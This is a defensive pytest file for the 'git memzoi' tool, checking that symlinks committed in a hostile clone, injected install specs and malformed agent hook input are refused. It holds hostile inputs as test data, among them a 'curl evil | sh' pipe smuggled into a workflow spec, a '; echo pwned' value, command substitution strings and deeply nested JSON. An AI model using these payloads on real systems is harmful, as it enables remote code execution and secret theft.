"""Client set-up never leaves the repository, and agent input never crashes: tried as a hostile clone would.

A cloned repository can commit symlinks where `agent install`, `hook install` and `init` write
(`.mcp.json`, `.claude`, `.github`, a hooks folder, `.gitattributes`, `.memzoi`): each is refused
with one line naming the link, and the file behind it is neither read (its secret never shows)
nor written (its bytes and mtime stay). Every command runs for real, through `git memzoi`.
"""

from __future__ import annotations

import json
import os
import shlex
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

from git_memzoi.agents.claude_hook import MAX_EVENT_BYTES
from git_memzoi.errors import Refused
from git_memzoi.runtime import atomic
from support import FIXTURES, Repo, git, make_repo
from support.agents import add_migrations_risk
from support.hooks import WORKFLOW, schema_check
from support.lifecycle import packet, write_packet

SECRET = "c2VjcmV0LXRva2VuLWZyb20tZG9ja2Vy"


def memzoi(*args: str, cwd: Path, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    """`git memzoi ARGS` as a user runs it: a real process through git."""
    return subprocess.run(
        ["git", "memzoi", *args], cwd=cwd, capture_output=True, text=True, env={**os.environ, **(env or {})}
    )


def outside(home: Path) -> dict[Path, tuple[bytes, int]]:
    """The user's own files a hostile clone points at, with a secret in one of them."""
    files = {
        home / ".docker" / "config.json": json.dumps({"auths": {"ghcr.io": {"auth": SECRET}}}).encode(),
        home / ".claude" / "settings.json": json.dumps({"model": "opus", "env": {"TOKEN": SECRET}}).encode(),
        home / ".codex" / "config.toml": f'# {SECRET}\nmodel = "o3"\n'.encode(),
        home / ".bashrc": f"export TOKEN={SECRET}\n".encode(),
    }
    for path, data in files.items():
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
    return snapshot(home)


def snapshot(home: Path) -> dict[Path, tuple[bytes, int]]:
    """Every file under `home` (but the runtime home), with its bytes and mtime."""
    return {
        p: (p.read_bytes(), p.stat().st_mtime_ns)
        for p in sorted(home.rglob("*"))
        if p.is_file() and not p.is_symlink() and ".memzoi" not in p.parts
    }


def refused_one_line(result: subprocess.CompletedProcess[str], link: str) -> None:
    """Exit 1, one line naming the symlink, and the secret nowhere in the output."""
    assert result.returncode == 1, result.stderr
    assert result.stderr.count("\n") == 1, result.stderr
    assert f"{link} is a symlink" in result.stderr
    assert SECRET not in result.stdout + result.stderr


def repository_holds_no_secret(repo: Repo) -> None:
    for path in repo.path.rglob("*"):
        if ".git" in path.relative_to(repo.path).parts or path.is_symlink() or not path.is_file():
            continue
        assert SECRET.encode() not in path.read_bytes(), path


@pytest.fixture
def home(hermetic: Path) -> Path:
    return hermetic


@pytest.mark.parametrize("dry_run", [True, False], ids=["dry-run", "write"])
def test_a_committed_mcp_json_link_is_neither_read_nor_written(repo: Repo, home: Path, dry_run: bool) -> None:
    before = outside(home)
    (repo.path / ".mcp.json").symlink_to(os.path.relpath(home / ".docker" / "config.json", repo.path))
    git("add", ".mcp.json", cwd=repo.path)
    git("commit", "-qm", "tooling", cwd=repo.path)
    result = memzoi("agent", "install", "claude", *(["--dry-run"] if dry_run else []), cwd=repo.path)
    refused_one_line(result, ".mcp.json")
    assert result.stdout == ""
    assert snapshot(home) == before
    assert (repo.path / ".mcp.json").is_symlink() and not (repo.path / ".claude").exists()
    repository_holds_no_secret(repo)


@pytest.mark.parametrize(
    ("link", "target"),
    [(".claude", ".claude"), (".claude/settings.json", ".claude/settings.json")],
    ids=["folder", "file"],
)
def test_a_claude_settings_link_is_refused_and_the_users_settings_stay(
    repo: Repo, home: Path, link: str, target: str
) -> None:
    before = outside(home)
    (repo.path / link).parent.mkdir(parents=True, exist_ok=True)
    (repo.path / link).symlink_to(home / target)
    for args in (["--dry-run"], ["--json"], []):
        result = memzoi("agent", "install", "claude", *args, cwd=repo.path)
        refused_one_line(result, link)
    assert snapshot(home) == before
    assert not (repo.path / ".mcp.json").exists(), "nothing is written when one file is refused"
    repository_holds_no_secret(repo)


def test_a_codex_home_inside_the_repository_is_held_to_the_same_rule(repo: Repo, home: Path) -> None:
    before = outside(home)
    (repo.path / ".codex").symlink_to(home / ".codex")
    result = memzoi("agent", "install", "codex", "--global", "--dry-run", cwd=repo.path, env={"CODEX_HOME": ".codex"})
    refused_one_line(result, ".codex")
    result = memzoi(
        "agent",
        "install",
        "codex",
        "--global",
        cwd=repo.path / ".memzoi",
        env={"CODEX_HOME": str(repo.path / ".codex")},
    )
    refused_one_line(result, ".codex")
    refused_one_line(memzoi("agent", "install", "codex", cwd=repo.path), ".codex")  # the project's own config
    assert snapshot(home) == before
    # a real per-project Codex home is written as before
    (repo.path / ".codex").unlink()
    done = memzoi("agent", "install", "codex", "--global", cwd=repo.path, env={"CODEX_HOME": ".codex"})
    assert done.returncode == 0, done.stderr
    assert "[mcp_servers.memzoi]" in (repo.path / ".codex" / "config.toml").read_text()


def test_the_ci_workflow_is_never_written_through_a_link(repo: Repo, home: Path) -> None:
    before = outside(home)
    workflows = home / "elsewhere" / "workflows"
    workflows.mkdir(parents=True)
    (repo.path / ".github").symlink_to(home / "elsewhere")
    result = memzoi("hook", "install", "--ci", "github", "--install-spec", ".", cwd=repo.path)
    refused_one_line(result, ".github")
    assert list(workflows.iterdir()) == [] and snapshot(home) == before
    (repo.path / ".github").unlink()
    (repo.path / ".github" / "workflows").mkdir(parents=True)
    (repo.path / ".github" / "workflows" / "memzoi.yml").symlink_to(home / ".bashrc")
    result = memzoi("hook", "install", "--ci", "github", "--install-spec", ".", cwd=repo.path)
    refused_one_line(result, ".github/workflows/memzoi.yml")
    assert snapshot(home) == before


def test_hook_scripts_are_never_written_through_a_link_in_the_work_tree(repo: Repo, home: Path) -> None:
    before = outside(home)
    target = home / "shared-hooks"
    target.mkdir()
    (repo.path / ".githooks").symlink_to(target)
    git("config", "core.hooksPath", ".githooks", cwd=repo.path)
    result = memzoi("hook", "install", cwd=repo.path)
    refused_one_line(result, ".githooks")
    assert list(target.iterdir()) == [] and snapshot(home) == before
    # a hook file that links out is refused too, and what it points at is not read
    (repo.path / ".githooks").unlink()
    (repo.path / ".githooks").mkdir()
    (repo.path / ".githooks" / "pre-commit").symlink_to(home / ".bashrc")
    result = memzoi("hook", "install", cwd=repo.path)
    assert result.returncode == 1 and SECRET not in result.stdout + result.stderr
    first, hint = result.stderr.splitlines()
    assert first.endswith(".githooks/pre-commit is a symlink, not a hook git memzoi wrote; leaving it alone")
    assert hint.startswith("hint: to run both, add this line to the hook it points to: git-memzoi hook pre-commit")
    assert snapshot(home) == before and not (repo.path / ".githooks" / "pre-push").exists()
    # a real hooks folder in the work tree is written as before
    (repo.path / ".githooks" / "pre-commit").unlink()
    done = memzoi("hook", "install", cwd=repo.path)
    assert done.returncode == 0, done.stderr
    assert os.access(repo.path / ".githooks" / "pre-commit", os.X_OK)


@pytest.mark.parametrize(
    ("link", "target"),
    [(".gitattributes", ".bashrc"), (".memzoi", "elsewhere"), (".memzoi/log.md", ".bashrc")],
    ids=["gitattributes", "memzoi-folder", "log-file"],
)
def test_init_writes_nothing_through_a_link(tmp_path: Path, home: Path, link: str, target: str) -> None:
    repo = make_repo(tmp_path / "clone", init_memzoi=False)
    (home / "elsewhere").mkdir()
    before = outside(home)
    (repo.path / link).parent.mkdir(parents=True, exist_ok=True)
    (repo.path / link).symlink_to(home / target)
    result = memzoi("init", cwd=repo.path)
    refused_one_line(result, link)
    assert snapshot(home) == before and list((home / "elsewhere").iterdir()) == []


def test_a_folder_swapped_for_a_link_after_the_check_is_still_refused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The lstat walk and the write are two steps; the write opens each folder with O_NOFOLLOW itself."""
    root, elsewhere = tmp_path / "work", tmp_path / "elsewhere"
    root.mkdir()
    elsewhere.mkdir()
    (root / ".claude").symlink_to(elsewhere)
    # the link appears just after refuse_symlinks looked: let the lstat walk see nothing wrong
    monkeypatch.setattr(atomic, "refuse_symlinks", lambda root, rel, why: root / rel)
    with pytest.raises(Refused, match=r"^\.claude is a symlink or not a folder"):
        atomic.write_inside(root, ".claude/settings.json", b"{}", "why")
    with pytest.raises(Refused, match=r"^\.claude is a symlink or not a folder"):
        atomic.read_inside(root, ".claude/settings.json", "why")
    (elsewhere / "settings.json").write_text(SECRET)
    (root / "settings.json").symlink_to(elsewhere / "settings.json")
    with pytest.raises(Refused, match=r"^settings\.json is a symlink"):
        atomic.read_inside(root, "settings.json", "why")
    with pytest.raises(Refused, match=r"^settings\.json is a symlink"):
        atomic.write_inside(root, "settings.json", b"{}", "why")
    os.mkfifo(root / "fifo.json")  # nothing writes to it: an open that waited for a writer would hang
    with pytest.raises(Refused, match=r"^fifo\.json is not a regular file"):
        atomic.read_inside(root, "fifo.json", "why")
    assert list(elsewhere.iterdir()) == [elsewhere / "settings.json"]
    assert (elsewhere / "settings.json").read_text() == SECRET


DEEP = 100_000


@pytest.mark.parametrize(
    ("rel", "text"),
    [
        (".mcp.json", '{"mcpServers": ' + "[" * DEEP + "]" * DEEP + "}"),
        (".claude/settings.json", '{"hooks": {"PreToolUse": [' + "[" * DEEP + "]" * DEEP + "]}}"),
    ],
    ids=["mcp-json", "settings-json"],
)
def test_deeply_nested_client_config_is_a_usage_error(repo: Repo, rel: str, text: str) -> None:
    repo.write(rel, text)
    result = memzoi("agent", "install", "claude", "--dry-run", cwd=repo.path)
    assert result.returncode == 2, result.stderr
    assert result.stderr.count("\n") == 1 and f"{repo.path / rel}" in result.stderr and "Traceback" not in result.stderr


def test_deeply_nested_codex_config_is_a_usage_error(repo: Repo, tmp_path: Path) -> None:
    codex = tmp_path / "codex-home"
    codex.mkdir()
    (codex / "config.toml").write_text("x = " + "[" * DEEP + "]" * DEEP + "\n")
    result = memzoi("agent", "install", "codex", "--global", cwd=repo.path, env={"CODEX_HOME": str(codex)})
    assert result.returncode == 2, result.stderr
    assert result.stderr.count("\n") == 1 and "config.toml" in result.stderr


def hook_process(stdin: bytes | Path, cwd: Path) -> subprocess.CompletedProcess[bytes]:
    """`git memzoi agent hook claude` as Claude Code runs it: a real process, the event on stdin."""
    command = ["git", "memzoi", "agent", "hook", "claude"]
    if isinstance(stdin, Path):
        with stdin.open("rb") as handle:
            return subprocess.run(command, stdin=handle, capture_output=True, cwd=cwd)
    return subprocess.run(command, input=stdin, capture_output=True, cwd=cwd)


def failed_open(result: subprocess.CompletedProcess[bytes], message: str) -> None:
    """The hook's answer to an event it cannot use: exit 0, nothing on stdout, one stderr line."""
    err = result.stderr.decode()
    assert result.returncode == 0, err
    assert result.stdout == b""
    assert err.count("\n") == 1 and err.startswith("git memzoi: agent hook claude: "), err
    assert message in err and "internal error" not in err


def write_event(cwd: Path, file_path: str, content: str = "x\n", **override: object) -> dict[str, object]:
    data: dict[str, object] = json.loads(
        (FIXTURES / "claude-hooks" / "pretooluse-write.json").read_text().replace("{CWD}", str(cwd))
    )
    data["tool_input"] = {"file_path": file_path, "content": content}
    data.update(override)
    return data


@pytest.mark.parametrize(
    ("field", "value", "message"),
    [
        ("file_path", "db/migrations/0001\x00.sql", "tool_input.file_path holds a NUL character"),
        ("cwd", "{CWD}\x00/sub", "cwd holds a NUL character"),
        ("file_path", "db/migrations/\ud800.sql", "tool_input.file_path holds an unpaired surrogate"),
        ("cwd", "{CWD}/\udfff", "cwd holds an unpaired surrogate"),
        ("command", "rm -rf \ud800", "tool_input.command holds an unpaired surrogate"),
        ("hook_event_name", "Pre\x00ToolUse", "hook_event_name holds a NUL character"),
    ],
)
def test_a_nul_or_a_lone_surrogate_never_crashes_the_hook(repo: Repo, field: str, value: str, message: str) -> None:
    add_migrations_risk(repo)
    value = value.replace("{CWD}", str(repo.path))
    data = write_event(repo.path, "db/migrations/0001.sql")
    if field == "command":
        data.update(tool_name="Bash", tool_input={"command": value})
    elif field == "file_path":
        data["tool_input"] = {"file_path": value, "content": "x"}
    else:
        data[field] = value
    text = json.dumps(data)  # ensure_ascii: \u0000 and \ud800 as Claude Code's JSON carries them
    assert "\\u0000" in text or "\\ud" in text
    failed_open(hook_process(text.encode(), repo.path), message)


@pytest.mark.parametrize(
    "shape",
    [
        "[" * DEEP + "]" * DEEP,
        "[" * DEEP,
        "[[]" * DEEP + "]" * DEEP,
        '{"a":' * DEEP + "1" + "}" * DEEP,
    ],
    ids=["arrays", "unclosed", "stairs", "objects"],
)
def test_a_deeply_nested_event_is_refused_before_it_is_parsed(repo: Repo, shape: str) -> None:
    failed_open(hook_process(shape.encode(), repo.path), "nests arrays and objects more than 64 deep")
    inside = json.dumps(write_event(repo.path, "README.md")).replace('"content": "x\\n"', f'"content": {shape}')
    failed_open(hook_process(inside.encode(), repo.path), "nests arrays and objects more than 64 deep")


def test_brackets_inside_strings_and_a_large_write_are_still_answered(repo: Repo) -> None:
    """What the bound must not refuse: a 3 MB Write of a file full of brackets and escaped quotes."""
    add_migrations_risk(repo)
    content = ('[[[{{"\\' * 100_000 + "\n") * 4
    text = json.dumps(write_event(repo.path, str(repo.path / "db/migrations/0002.sql"), content))
    assert MAX_EVENT_BYTES // 2 < len(text) < MAX_EVENT_BYTES
    result = hook_process(text.encode(), repo.path)
    assert result.returncode == 0 and result.stderr == b""
    answer = json.loads(result.stdout)["hookSpecificOutput"]
    assert answer["permissionDecision"] == "ask" and "migrations-are-append-only" in answer["additionalContext"]


def test_an_oversized_event_is_not_read_whole(repo: Repo, tmp_path: Path) -> None:
    big = tmp_path / "event.json"
    big.write_text(json.dumps(write_event(repo.path, "README.md", "a" * 24_000_000)))
    # peak memory of the hook alone: measured by a parent that runs nothing else
    probe = (
        "import resource, subprocess, sys\n"
        "with open(sys.argv[1], 'rb') as f:\n"
        "    p = subprocess.run(['git', 'memzoi', 'agent', 'hook', 'claude'], stdin=f, capture_output=True)\n"
        "sys.stdout.write(str(resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss) + '\\n')\n"
        "sys.stdout.write(str(p.returncode) + '\\n' + p.stderr.decode())\n"
    )
    done = subprocess.run([sys.executable, "-c", probe, str(big)], capture_output=True, text=True, cwd=repo.path)
    peak_kib, code, err = done.stdout.split("\n", 2)
    assert code == "0" and err.count("\n") == 1
    assert f"hook input is larger than {MAX_EVENT_BYTES} bytes; not read further" in err
    assert int(peak_kib) < 100 * 1024, f"peak {int(peak_kib) // 1024} MiB: the event was read whole"
    failed_open(hook_process(big, repo.path), "larger than")


@pytest.mark.parametrize(
    ("rel", "kind"),
    [
        (".memzoi/log.md", "symlink"),
        (".memzoi/index.md", "symlink"),
        (".memzoi/config.toml", "symlink"),
        (".gitattributes", "symlink"),
        (".memzoi/log.md", "folder"),
    ],
)
@pytest.mark.parametrize("verb", ["apply", "reject"])
def test_apply_refuses_a_fixed_memory_file_that_is_a_link(
    repo: Repo, home: Path, rel: str, kind: str, verb: str
) -> None:
    """apply and reject read and append log.md: a link there (or a folder) is one line naming it, exit 1."""
    before = outside(home)
    write_packet(repo, packet("mem_2026_03_01_auth_abc123"))
    target = repo.path / rel
    target.unlink(missing_ok=True)
    if kind == "symlink":
        target.symlink_to(home / ".bashrc")
    else:
        target.mkdir()
    extra = ["--reason", "not needed"] if verb == "reject" else []
    result = memzoi(verb, "mem_2026_03_01_auth_abc123", *extra, cwd=repo.path)
    assert result.returncode == 1, result.stderr
    assert result.stderr.count("\n") == 1 and rel in result.stderr and "internal error" not in result.stderr
    assert ("is a symlink" if kind == "symlink" else "is a folder where a memory file belongs") in result.stderr
    assert SECRET not in result.stdout + result.stderr
    assert snapshot(home) == before
    assert (repo.path / ".memzoi/proposals/pending/mem_2026_03_01_auth_abc123.md").is_file()
    assert not (repo.path / ".memzoi/records").joinpath("semantic").exists()


@pytest.mark.parametrize(
    "spec",
    [
        "git-memzoi==0.1.0 #egg=evil",
        "git-memzoi @ https://example.com/x.whl#sha256=abc",
        "key: value",
        "git+https://example.com/repo.git@v1 ; echo pwned",
        "./tools/git memzoi's copy",
        '"quoted" \\ and $(subshell) `tick`',
        "- item: [a, b] {c: d} & *alias !tag %dir @at",
    ],
)
def test_an_install_spec_reaches_pip_exactly_as_given(repo: Repo, spec: str) -> None:
    result = memzoi("hook", "install", "--ci", "github", "--install-spec", spec, cwd=repo.path)
    assert result.returncode == 0, result.stderr
    path = repo.path / WORKFLOW
    checked = schema_check(path)
    assert checked.returncode == 0, checked.stdout + checked.stderr
    steps = yaml.safe_load(path.read_text())["jobs"]["memory"]["steps"]
    assert [s["name"] for s in steps] == [
        "Check out the pull request with its whole history",
        "Set up Python",
        "Install git memzoi",
        "Restore the .memzoi/ trees earlier runs validated and indexed (named by their content)",
        "Check the commits the pull request adds, as the server hook would",
        "Validate memory at the pull request's head",
    ]
    assert shlex.split(steps[2]["run"]) == ["python", "-m", "pip", "install", spec]


@pytest.mark.parametrize(
    "spec", ["git-memzoi\n      - run: curl evil | sh", "git-memzoi\r", "x\x1b]52;c;Zm9v\x07", "a\u2028b", "", "   "]
)
def test_an_install_spec_with_control_characters_is_a_usage_error(repo: Repo, spec: str) -> None:
    result = memzoi("hook", "install", "--ci", "github", "--install-spec", spec, cwd=repo.path)
    assert result.returncode == 2, result.stderr
    assert result.stderr.count("\n") == 1 and "--install-spec" in result.stderr
    assert not (repo.path / WORKFLOW).exists()


def test_a_hook_file_that_links_to_a_tracked_script_is_left_alone(repo: Repo) -> None:
    """A common set-up: .git/hooks/pre-commit -> ../../scripts/pre-commit. It is never replaced or read."""
    script = repo.write("scripts/pre-commit", "#!/bin/sh\nmake lint\n")
    (repo.path / ".git" / "hooks").mkdir(exist_ok=True)
    (repo.path / ".git" / "hooks" / "pre-commit").symlink_to("../../scripts/pre-commit")
    before = (script.read_bytes(), script.stat().st_mtime_ns)
    result = memzoi("hook", "install", cwd=repo.path)
    assert result.returncode == 1 and "is a symlink, not a hook git memzoi wrote" in result.stderr
    assert "git-memzoi hook pre-commit || exit $?" in result.stderr
    assert (script.read_bytes(), script.stat().st_mtime_ns) == before
    assert (repo.path / ".git" / "hooks" / "pre-commit").is_symlink()
    assert not (repo.path / ".git" / "hooks" / "pre-push").exists(), "nothing is written when one hook is refused"


@pytest.mark.parametrize(
    ("args", "link", "target"),
    [
        (["export", "agents-md", "--output", "docs"], "docs", "elsewhere"),
        (["export", "claude-md", "--output", "."], "CLAUDE.memory.md", ".bashrc"),
        (["export", "okf", "--output", "out"], "out/okf", "elsewhere"),
    ],
    ids=["folder", "file", "bundle"],
)
def test_an_export_into_the_repository_never_goes_through_a_link(
    repo: Repo, home: Path, args: list[str], link: str, target: str
) -> None:
    (home / "elsewhere").mkdir()
    (home / "elsewhere" / "keep.txt").write_text(SECRET)
    before = outside(home)
    (repo.path / link).parent.mkdir(parents=True, exist_ok=True)
    (repo.path / link).symlink_to(home / target)
    result = memzoi(*args, cwd=repo.path)
    refused_one_line(result, link)
    assert snapshot(home) == before and sorted(p.name for p in (home / "elsewhere").iterdir()) == ["keep.txt"]
    # outside the repository, --output is the user's own choice and is followed as before
    mine = home / "exports-link"
    mine.symlink_to(home / "elsewhere")
    done = memzoi(*args[:2], "--output", str(mine), cwd=repo.path)
    assert done.returncode == 0, done.stderr
